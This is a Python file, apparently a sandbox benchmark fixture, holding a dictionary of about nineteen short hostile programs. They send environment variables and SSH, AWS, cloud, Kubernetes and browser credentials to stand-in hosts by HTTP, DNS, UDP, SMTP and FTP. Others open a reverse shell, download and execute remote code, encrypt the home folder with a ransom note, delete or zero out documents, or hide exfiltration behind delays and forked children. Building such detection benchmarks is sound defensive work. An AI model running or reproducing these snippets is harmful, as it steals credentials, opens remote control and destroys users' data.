"""Python programs that steal or destroy, written for the benchmark of rehearsals. Run in sandboxes alone."""

from __future__ import annotations

PYTHON = {
    "environment as JSON in a POST": """
import json, os, urllib.request
body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen("https://metrics.example/v1/report", body).read()
""",
    "cloud keys over a raw socket": """
import pathlib, socket
with socket.create_connection(("203.0.113.40", 8443)) as line:
    line.sendall((pathlib.Path.home() / ".aws/credentials").read_bytes())
""",
    "SSH key in a query": """
import base64, pathlib, urllib.request
key = base64.urlsafe_b64encode((pathlib.Path.home() / ".ssh/id_rsa").read_bytes()).decode()
urllib.request.urlopen("http://cdn.example/pixel.gif?v=" + key).read()
""",
    "settings, compressed and encoded": """
import base64, gzip, os, urllib.request
data = open(os.path.expanduser("~/.env"), "rb").read()
urllib.request.urlopen("https://paste.example/api", b"d=" + base64.b64encode(gzip.compress(data))).read()
""",
    "password in a header": """
import http.client, netrc, os
_, _, secret = netrc.netrc(os.path.expanduser("~/.netrc")).authenticators("github.com")
line = http.client.HTTPSConnection("status.example")
line.request("GET", "/health", headers={"X-Trace": secret})
line.getresponse().read()
""",
    "token in names of hosts": """
import os, socket
text = os.environ["GITHUB_TOKEN"].encode().hex()
for number, start in enumerate(range(0, len(text), 30)):
    try:
        socket.getaddrinfo(f"{text[start:start + 30]}.{number}.ns.example", 80)
    except OSError:
        pass
""",
    "datagram combined with one byte": """
import os, socket
data = bytes(byte ^ 0x42 for byte in os.environ["STRIPE_SECRET_KEY"].encode())
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(data, ("198.51.100.20", 514))
""",
    "cluster access by mail": """
import os, smtplib
text = open(os.path.expanduser("~/.kube/config")).read()
with smtplib.SMTP("mail.example", 25) as mail:
    mail.sendmail("a@mail.example", "b@mail.example", "Subject: log\\n\\n" + text)
""",
    "key by FTP": """
import ftplib, os
name = os.path.expanduser("~/.config/gcloud/credentials.json")
with ftplib.FTP("files.example") as files, open(name, "rb") as key:
    files.login("anonymous", "x")
    files.storbinary("STOR k.json", key)
""",
    "the whole home folder in an archive": """
import io, os, tarfile, urllib.request
held = io.BytesIO()
with tarfile.open(fileobj=held, mode="w:gz") as archive:
    for name in (".ssh", ".aws", ".docker"):
        archive.add(os.path.expanduser("~/" + name), name)
urllib.request.urlopen("https://backup.example/up", held.getvalue()).read()
""",
    "browser passwords reversed": """
import base64, glob, os, urllib.request
for name in glob.glob(os.path.expanduser("~/.mozilla/firefox/*/logins.json")):
    data = base64.b64encode(open(name, "rb").read())[::-1]
    urllib.request.urlopen("http://update.example/check", data).read()
""",
    "key in six requests": """
import os, urllib.request
key = os.environ["AWS_SECRET_ACCESS_KEY"]
for start in range(0, len(key), 7):
    urllib.request.urlopen("https://api.example/c", key[start:start + 7].encode()).read()
""",
    "runs what it downloads": """
import urllib.request
exec(urllib.request.urlopen("https://cdn.example/stage.py").read().decode())
""",
    "reverse shell": """
import os, socket, subprocess
line = socket.create_connection(("203.0.113.41", 4444))
subprocess.call(["/bin/sh"], stdin=line.fileno(), stdout=line.fileno(), stderr=line.fileno())
""",
    "encrypts every file": """
import hashlib, os
for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        path = os.path.join(folder, name)
        data, key = open(path, "rb").read(), os.urandom(32)
        numbers = (str(i).encode() for i in range(len(data) // 32 + 1))
        stream = b"".join(hashlib.sha256(key + number).digest() for number in numbers)
        open(path + ".locked", "wb").write(bytes(a ^ b for a, b in zip(data, stream)))
        os.remove(path)
open("README_TO_RESTORE.txt", "w").write("pay")
""",
    "deletes documents": """
import os, shutil
for name in ("Documents", "Pictures", "backup"):
    shutil.rmtree(os.path.expanduser("~/" + name), ignore_errors=True)
""",
    "overwrites documents with zeros": """
import pathlib
for path in (pathlib.Path.home() / "Documents").rglob("*"):
    if path.is_file():
        path.write_bytes(bytes(path.stat().st_size))
""",
    "waits before it steals": """
import os, time, urllib.request
time.sleep(20)
urllib.request.urlopen("https://late.example/x", os.environ["OPENAI_API_KEY"].encode()).read()
""",
    "steals from a child of its own": """
import os, urllib.request
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        urllib.request.urlopen("http://quiet.example/", os.environ["NPM_TOKEN"].encode()).read()
    os._exit(0)
os.wait()
print("done")
""",
}
"""By what they do."""
